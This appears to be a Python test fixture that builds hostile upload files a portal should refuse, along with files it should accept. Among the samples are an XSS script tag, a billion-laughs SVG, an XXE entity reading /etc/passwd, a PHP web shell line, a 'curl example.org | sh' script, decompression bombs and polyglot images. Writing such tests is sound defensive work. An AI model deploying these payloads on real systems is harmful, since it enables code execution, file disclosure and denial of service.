"""Hostile files that are no PDF: made here, none is kept. By name: how it is made, and the code it is refused with."""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, PngImagePlugin

from tests.portal.base.documents.sending import SECRET, heic, photo, png

SCRIPT = b"<script>alert('" + SECRET + b"')</script>"
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))


def archive(**files: bytes) -> bytes:
    """A zip of these files; two underscores in a name stand for a slash, one for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, body in files.items():
            packed.writestr(name.replace("__", "/").replace("_", "."), body)
    return out.getvalue()


def bomb() -> bytes:
    """A zip of a zip of a hundred megabytes of nothing."""
    return archive(inner_zip=archive(zeros=b"\0" * 100_000_000))


def gif(frames: int = 3, size: tuple[int, int] = (64, 64)) -> bytes:
    """An animated GIF."""
    first, *rest = (Image.new("P", size, shade % 256) for shade in range(frames))
    out = io.BytesIO()
    first.save(out, "GIF", save_all=True, append_images=rest)
    return out.getvalue()


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose header claims another size."""
    raw = bytearray(photo(size=(16, 16)))
    place = raw.index(b"\xff\xc0") + 5
    raw[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(raw)


def webp_claiming(width: int, height: int) -> bytes:
    """A lossless WebP header that claims this size."""
    bits = (width - 1) | (height - 1) << 14
    body = b"VP8L" + struct.pack("<I", 10) + b"\x2f" + struct.pack("<I", bits) + b"\0" * 5
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def text_chunk(size: int) -> tuple[bytes, bytes]:
    """A compressed text that grows to `size`."""
    return b"zTXt", b"t\0\0" + zlib.compress(b"A" * size, 9)


def damaged(raw: bytes, seed: int) -> bytes:
    """A quarter of the bytes behind the header thrown about."""
    dice, torn = random.Random(seed), bytearray(raw)
    for _byte in range(len(raw) // 4):
        torn[dice.randrange(40, len(raw))] = dice.randrange(256)
    return bytes(torn)


Made = Callable[[], bytes]
REFUSED: dict[str, tuple[Made, set[str]]] = {
    "nothing": (lambda: b"", {"empty"}),
    "one byte": (lambda: b"\xff", {"type"}),
    "text": (lambda: b"hello", {"type"}),
    "only NUL": (lambda: b"\0" * 5_000, {"type"}),
    "html named jpg": (lambda: b"<!doctype html>" + SCRIPT, {"type"}),
    "svg with a script": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()">' + SCRIPT + b"</svg>",
        {"type"},
    ),
    "svg of a billion laughs": (
        lambda: b'<!DOCTYPE svg [<!ENTITY l0 "ha">' + LAUGHS + b"]><svg>&l9;</svg>",
        {"type"},
    ),
    "xml with an outer entity": (
        lambda: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        {"type"},
    ),
    "javascript": (lambda: b"fetch('/me/')//" + SECRET, {"type"}),
    "php": (lambda: b"<?php system($_GET['c']); ?>", {"type"}),
    "shell": (lambda: b"#!/bin/sh\ncurl example.org | sh\n", {"type"}),
    "program of Linux": (lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 100, {"type"}),
    "program of Windows": (lambda: b"MZ\x90\0\x03" + b"\0" * 100, {"type"}),
    "shortcut": (lambda: b"[InternetShortcut]\nURL=file:///c:/windows\n", {"type"}),
    "gif": (gif, {"type"}),
    "gif of 2,000 frames": (lambda: gif(2_000, (8, 8)), {"type"}),
    "gif claiming 65535 x 65535": (lambda: b"GIF89a\xff\xff\xff\xff" + b"\0" * 60, {"type"}),
    "gif that is javascript": (lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", {"type"}),
    "bmp": (lambda: photo("BMP"), {"type"}),
    "bmp claiming 30000 x 30000": (
        lambda: b"BM" + struct.pack("<IHHIIiiHHI", 99, 0, 0, 54, 40, 30_000, 30_000, 1, 24, 0) + b"\0" * 40,
        {"type"},
    ),
    "tiff": (lambda: photo("TIFF"), {"type"}),
    "icon": (lambda: photo("ICO", (32, 32)), {"type"}),
    "photoshop": (lambda: b"8BPS\0\x01" + b"\0" * 40, {"type"}),
    "postscript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) (w) file", {"type"}),
    "film": (lambda: b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2" + b"\0" * 60, {"type"}),
    "sound": (lambda: b"ID3\x03\0\0\0\0\0\0" + b"\xff\xfb\x90" * 30, {"type"}),
    "zip": (lambda: archive(a_txt=b"hello"), {"office"}),
    "zip of a zip of nothing": (bomb, {"office"}),
    "empty zip": (lambda: archive(), {"office"}),
    "workbook": (lambda: archive(xl__workbook_xml=b"<workbook/>"), {"office"}),
    "workbook of a million rows": (
        lambda: archive(xl__worksheets__sheet1_xml=b"<row/>" * 1_000_000),
        {"office"},
    ),
    "letter": (lambda: archive(word__document_xml=b"<w:document/>"), {"office"}),
    "letter with macros": (lambda: archive(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"), {"office"}),
    "program in a jar": (lambda: archive(Main_class=b"\xca\xfe\xba\xbe"), {"office"}),
    "old letter": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, {"office"}),
    "gzip bomb": (lambda: gzip.compress(b"\0" * 50_000_000), {"office"}),
    "rar": (lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 60, {"office"}),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 60, {"office"}),
    "png claiming 60000 x 60000": (lambda: png(60_000, 60_000), {"pixels"}),
    "png claiming 7000 x 7000": (lambda: png(7_000, 7_000), {"pixels"}),
    "png claiming a line of 2 billion": (lambda: png(2_000_000_000, 1), {"pixels", "broken"}),
    "png of no width": (lambda: png(0, 5), {"broken", "type"}),
    "jpeg claiming 65500 x 65500": (lambda: jpeg_claiming(65_500, 65_500), {"pixels"}),
    "webp claiming 16383 x 16383": (lambda: webp_claiming(16_383, 16_383), {"pixels", "broken"}),
    "png with a text of 100 MB": (lambda: png(8, 8, text_chunk(100_000_000)), {"broken"}),
    "png with a hundred texts": (lambda: png(8, 8, *[text_chunk(900_000)] * 100), {"broken"}),
    "png of false data": (lambda: png(640, 480), {"broken"}),
    "png with a wrong sum": (lambda: png(8, 8)[:29] + b"\0\0\0\0" + png(8, 8)[33:], {"broken"}),
    "png cut": (lambda: photo("PNG")[:2_000], {"broken"}),
    "png signature only": (lambda: b"\x89PNG\r\n\x1a\n", {"broken"}),
    "jpeg cut": (lambda: photo()[:9_000], {"broken"}),
    "jpeg header only": (lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\0", {"broken"}),
    "jpeg start and noise": (lambda: b"\xff\xd8\xff" + random.Random(1).randbytes(500), {"broken"}),
    "webp cut": (lambda: photo("WEBP")[:300], {"broken"}),
    "webp header only": (lambda: b"RIFF\x10\0\0\0WEBPVP8 ", {"broken"}),
    "heic cut": (lambda: heic()[:3_000], {"heic"}),
    "heic header only": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", {"heic"}),
    "heic and noise": (lambda: heic()[:40] + random.Random(2).randbytes(5_000), {"heic"}),
    "heic thrown about": (lambda: damaged(heic(), 3), {"heic", "heavy"}),
    "more bytes than allowed": (lambda: photo() + b"\0" * 10_000_001, {"large"}),
}


def with_text() -> bytes:
    """A PNG with a script in its texts."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SCRIPT.decode(), zip=False)
    text.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    return photo("PNG", pnginfo=text)


def with_exif() -> bytes:
    """A JPEG that tells where, with what, and carries a program in its comments."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x010E] = 6, SECRET.decode(), "<?php system($_GET['c']);"
    exif.get_ifd(0x8825).update({1: "N", 2: (27.0, 45.0, 55.0), 3: "E", 4: (112.0, 55.0, 36.0)})
    exif.get_ifd(0x8769)[0x927C] = SECRET
    return photo(exif=exif, comment=SCRIPT, icc_profile=SECRET * 9, xmp=b"<x>" + SCRIPT + b"</x>")


def moving() -> bytes:
    """A WebP of 200 frames."""
    first, *rest = (Image.new("RGB", (32, 32), (shade, 0, 0)) for shade in range(200))
    out = io.BytesIO()
    first.save(out, "WEBP", save_all=True, append_images=rest)
    return out.getvalue()


HARMLESS: dict[str, Made] = {
    "jpeg with place, maker and comment": with_exif,
    "png with a script in its texts": with_text,
    "jpeg with a script behind it": lambda: photo() + SCRIPT,
    "jpeg with a zip behind it": lambda: photo() + archive(a_txt=SECRET),
    "jpeg with php behind it": lambda: photo() + b"<?php " + SECRET,
    "jpeg that is a pdf too": lambda: photo(comment=b"%PDF-1.7\n" + SCRIPT) + b"%PDF-1.7\n%%EOF",
    "webp with a script in its exif": lambda: photo("WEBP", exif=b"Exif\0\0" + SCRIPT),
    "webp of many frames": moving,
    "jpeg claiming 6000 x 6000": lambda: jpeg_claiming(6_000, 6_000),
    "png of one pixel": lambda: photo("PNG", (1, 1)),
    "heic": heic,
}
